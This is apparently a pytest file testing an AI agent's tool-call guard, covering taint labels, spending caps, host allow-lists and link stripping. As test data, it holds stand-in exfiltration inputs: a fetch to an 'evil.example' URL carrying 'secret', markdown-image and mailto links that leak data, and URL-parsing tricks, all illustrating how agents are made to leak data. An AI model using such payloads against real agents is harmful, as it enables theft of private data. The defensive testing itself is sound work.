"""The guard's rules, as a table: labels and taint in, a verdict with its rule out."""

from __future__ import annotations

from typing import Any

import pytest

from tests.agent.stage import CHANGES, COSTS, PRIVATE, SENDS, UNTRUSTED
from twotier.agent.guard import (
    Asked,
    Judgement,
    Rules,
    Verdict,
    addresses,
    covers,
    grown,
    host_of,
    judge,
    plain,
    plain_arguments,
    unlinked,
)
from twotier.domain.label import NO_LABELS, UNKNOWN, Labels

MIXED = PRIVATE | UNTRUSTED
OWNER_IS_THERE = Rules(attended=True)
SENT = Asked("send", {"text": "x"}, SENDS, SENDS)
DECLARED = Asked("send", {"text": "x"}, NO_LABELS, SENDS)
FETCH = Asked("fetch", {"url": "https://evil.example/?q=secret"}, UNTRUSTED, UNTRUSTED)


def said(
    asked: Asked, taint: Labels = NO_LABELS, rules: Rules | None = None, *, spent: int = 0
) -> tuple[str, str]:
    """Verdict and rule."""
    found = judge(asked, taint=taint, spent_microusd=spent, rules=rules or Rules())
    return found.verdict.value, found.rule


@pytest.mark.parametrize(
    ("asked", "taint", "rules", "expected"),
    [
        (SENT, NO_LABELS, Rules(), ("allow", "labels")),
        (SENT, PRIVATE, Rules(), ("allow", "labels")),
        (SENT, UNTRUSTED, Rules(), ("refuse", "sends")),
        (SENT, UNTRUSTED, OWNER_IS_THERE, ("ask", "sends")),
        (Asked("fetch", {}, SENDS | UNTRUSTED), UNTRUSTED, Rules(), ("allow", "labels")),
        (Asked("fetch", {}, SENDS | UNTRUSTED), MIXED, Rules(), ("refuse", "sends")),
        (SENT, MIXED, Rules(), ("refuse", "sends")),
        (SENT, MIXED, OWNER_IS_THERE, ("ask", "sends")),
        (DECLARED, MIXED, Rules(), ("allow", "labels")),
        (Asked("write", {}, CHANGES, CHANGES), NO_LABELS, Rules(), ("refuse", "changes")),
        (Asked("write", {}, CHANGES, CHANGES), NO_LABELS, OWNER_IS_THERE, ("ask", "changes")),
        (Asked("write", {}, NO_LABELS, CHANGES), MIXED, Rules(), ("allow", "labels")),
        (Asked("mcp", {}, UNKNOWN, UNKNOWN), NO_LABELS, OWNER_IS_THERE, ("ask", "changes")),
        (Asked("mcp", {}, UNKNOWN, UNKNOWN), MIXED, OWNER_IS_THERE, ("ask", "sends")),
        (FETCH, NO_LABELS, Rules(), ("allow", "labels")),
        (FETCH, UNTRUSTED, Rules(), ("allow", "labels")),
        (FETCH, PRIVATE, OWNER_IS_THERE, ("refuse", "hosts")),
        (FETCH, PRIVATE, Rules(hosts=frozenset({"*.example"})), ("allow", "labels")),
        (SENT, NO_LABELS, Rules(quarantine=True), ("refuse", "quarantine")),
        (DECLARED, NO_LABELS, Rules(quarantine=True), ("refuse", "quarantine")),
        (FETCH, UNTRUSTED, Rules(quarantine=True), ("allow", "labels")),
    ],
)
def test_the_rules(asked: Asked, taint: Labels, rules: Rules, expected: tuple[str, str]) -> None:
    """One line, one rule."""
    assert said(asked, taint, rules) == expected


@pytest.mark.parametrize(
    ("price", "spent", "most", "verdict"),
    [(0, 0, 0, "refuse"), (5, 0, 10, "allow"), (5, 6, 10, "refuse"), (0, 10, 10, "refuse")],
)
def test_what_costs_stays_below_the_cap(price: int, spent: int, most: int, verdict: str) -> None:
    """Nothing is bought without a cap, and a known price must fit into what is left."""
    asked = Asked("x_search", {}, COSTS, COSTS, price)
    rules = Rules(tool_microusd_max=most)
    assert said(asked, rules=rules, spent=spent)[0] == verdict


def test_a_declared_destination_gets_plain_text_where_both_met() -> None:
    """Only there: a run that holds one of them sends what it likes to its owner."""
    judged = [
        judge(DECLARED, taint=taint, spent_microusd=0, rules=Rules())
        for taint in (MIXED, PRIVATE, UNTRUSTED)
    ]
    assert [one.plain for one in judged] == [True, False, False]
    hook = Asked("http", {"url": "https://home.example/a"}, NO_LABELS, SENDS)
    rules = Rules(hosts=frozenset({"home.example"}))
    assert not judge(hook, taint=MIXED, spent_microusd=0, rules=rules).plain


def test_a_judgement_tells_whether_it_is_a_yes() -> None:
    """Asking the owner is not one."""
    assert Judgement(Verdict.ALLOW, "labels", "").allowed
    assert not Judgement(Verdict.ASK, "sends", "").allowed


def test_the_taint_only_grows() -> None:
    """Only what a text brings along stays; what a call does belongs to the call."""
    assert grown(PRIVATE, SENDS | UNTRUSTED, COSTS) == MIXED
    assert grown(MIXED, NO_LABELS) == MIXED


@pytest.mark.parametrize(
    ("arguments", "found"),
    [
        ({"text": "see https://a.example"}, set()),
        ({"text": " HTTPS://a.example"}, {" HTTPS://a.example"}),
        ({"URL": "a.example"}, {"a.example"}),
        ({"many": [{"url": "//a"}, "http:b"]}, {"//a", "http:b"}),
        ({"count": 3, "url": None}, set()),
    ],
)
def test_an_address_is_one_by_its_look_or_by_its_name(
    arguments: dict[str, Any], found: set[str]
) -> None:
    """However deep it stands in the arguments."""
    assert set(addresses(arguments)) == found


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://A.Example/x?q=1#y", "a.example"),
        ("http://a.example.:8080", "a.example"),
        ("http://me:pw@a.example/", "a.example"),
        ("http://[::1]/", "[::1]"),
        ("http://good.example\\@evil.example/", ""),
        ("http://good.example@x@evil.example/", ""),
        ("http:evil.example", ""),
        ("http:///evil.example", ""),
        ("ftp://evil.example", ""),
        ("http://evil.example/a b", ""),
        ("http://evïl.example/", ""),
    ],
)
def test_a_doubtful_address_has_no_host(address: str, host: str) -> None:
    """What clients read in different ways is on nobody's list."""
    assert host_of(address) == host


@pytest.mark.parametrize(
    ("pattern", "host", "meant"),
    [
        ("a.example", "a.example", True),
        ("A.example", "a.example", True),
        ("a.example", "b.a.example", False),
        ("*.a.example", "b.a.example", True),
        ("*.a.example", "a.example", False),
        ("*.a.example", "evila.example", False),
        ("", "", False),
    ],
)
def test_a_host_is_meant_by_its_name(pattern: str, host: str, meant: bool) -> None:
    """Or as one below a name with a star."""
    assert covers(pattern, host) is meant


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("All is well.", "All is well."),
        ("![chart](https://e.example/?d=secret)", "chart"),
        ("[read](https://e.example/secret)", "read"),
        ("see https://e.example/secret now", "see (link removed) now"),
        ('<img src="//e.example/secret">x<b>', "x"),
        ("mailto:a@e.example?body=secret", "(link removed)"),
        ("secret.e.example", "secret[.]e[.]example"),
        ("e.example/secret", "(link removed)"),
        ("3.5 < 4 and a.b", "3.5 < 4 and a.b"),
    ],
)
def test_plain_text_has_nothing_to_follow(text: str, left: str) -> None:
    """No link, no image, nothing a messenger would make a preview of."""
    assert plain(text) == left


def test_every_text_of_a_call_becomes_plain() -> None:
    """At every depth; what is no text stays."""
    arguments = {"a": ["x.example/y"], "b": {"c": "http://d"}, "n": 3}
    assert plain_arguments(arguments) == {
        "a": ["(link removed)"],
        "b": {"c": "(link removed)"},
        "n": 3,
    }


@pytest.mark.parametrize(
    "word", ["a-", "a.", "aa.b-", "a", "http", "<a", "![", "![](", "[a](", "](", "<img "]
)
def test_a_long_text_of_a_stranger_costs_no_more_than_its_length(word: str) -> None:
    """It once cost the square, and held everything up that this process does."""
    text = word * 200_000
    assert plain(text) == text
    assert unlinked(text) == text
